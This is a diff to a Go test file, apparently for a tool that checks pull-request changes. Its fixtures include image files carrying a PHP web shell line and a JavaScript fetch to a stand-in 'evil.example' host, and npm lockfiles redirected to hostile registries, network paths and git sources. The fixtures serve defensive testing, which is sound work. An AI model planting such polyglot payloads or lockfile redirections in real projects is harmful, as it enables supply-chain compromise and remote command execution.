@@ -52,7 +52,7 @@ func (c change) file() diff.File {
 }
 
 // base is a base branch with a few manifests.
-func base(t *testing.T, globs, attributes string) Base {
+func base(t testing.TB, globs, attributes string) Base {
 	t.Helper()
 	rules, err := ignore.New(strings.Fields(globs), []byte(attributes))
 	if err != nil {
@@ -233,7 +233,7 @@ func TestWhatIsReadIsBounded(t *testing.T) {
 }
 
 // pictures are what encoders write.
-func pictures(t *testing.T) map[string][]byte {
+func pictures(t testing.TB) map[string][]byte {
 	t.Helper()
 	img := image.NewPaletted(image.Rect(0, 0, 60, 40), color.Palette{color.Black, color.White, color.RGBA{200, 3, 4, 255}})
 	for i := range img.Pix {
@@ -289,8 +289,8 @@ func TestPictures(t *testing.T) {
 	}
 	data := pictures(t)
 	for name, trick := range map[string][]byte{
-		"script.gif":  slices.Concat(data["a.gif"][:len(data["a.gif"])-1], text("\x21\xfe\x20*/fetch('https://evil.example')/*\x00\x3b")),
-		"comment.jpg": slices.Concat(data["a.jpg"][:2], text("\xff\xfe\x00\x20<?php system($_GET['c']);     ?>"), data["a.jpg"][2:]),
+		"script.gif":  slices.Concat(data["a.gif"][:len(data["a.gif"])-1], text("\x21\xfe\x0f*/fetch(evil)/*\x00\x3b")),
+		"comment.jpg": slices.Concat(data["a.jpg"][:2], text("\xff\xfe\x00\x22<?php system($_GET['c']);     ?>"), data["a.jpg"][2:]),
 		"text.bmp":    slices.Concat(text("BM\xc6\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00"), make([]byte, 40), text(strings.Repeat(evil, 3)[:144])),
 	} {
 		if f := classify(b, change{path: name, after: trick})[0]; f.Fate != Unread {
@@ -316,7 +316,8 @@ func TestLockFiles(t *testing.T) {
 		"another host":        {"package-lock.json", npm, strings.ReplaceAll(bumped, "registry.npmjs.org", "evil.example"), []string{`"resolved": "https://evil.example/lodash/-/lodash-4.17.21.tgz",`}},
 		"another package":     {"package-lock.json", npm, strings.ReplaceAll(npm, "org/lodash/-/lodash-4", "org/evil/-/evil-4"), []string{`"resolved": "https://registry.npmjs.org/evil/-/evil-4.17.20.tgz",`}},
 		"a new package":       {"package-lock.json", npm, npm + strings.ReplaceAll(npm, "lodash", "left-pad"), []string{`left-pad-4.17.20.tgz`}},
-		"escapes":             {"package-lock.json", npm, strings.ReplaceAll(npm, "https://registry.npmjs.org", `\u0068\u0074tp:\/\/evil\u002eexample`), []string{`\u0068`}},
+		"escapes":             {"package-lock.json", npm, strings.ReplaceAll(npm, "https://registry.npmjs.org", `\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002fevil\u002eexample`), []string{`\u0068`}},
+		"a network path":      {"package-lock.json", npm, strings.ReplaceAll(npm, "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz", `\\evil`), []string{`\\evil`}},
 		"a path":              {"web/package-lock.json", npm, strings.ReplaceAll(npm, "https://registry.npmjs.org/lodash/-/", "file:../evil/"), []string{`file:../evil/`}},
 		"git":                 {"package-lock.json", npm, strings.ReplaceAll(npm, "https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz", "git+ssh://git@github.com/e/l.git#0a1b"), []string{`git+ssh://`}},
 		"the commit of a git": {"yarn.lock", "  resolved \"https://github.com/e/l.git#" + strings.Repeat("a", 40) + "\"\n", "  resolved \"https://github.com/e/l.git#" + strings.Repeat("b", 40) + "\"\n", []string{"bbbb"}},
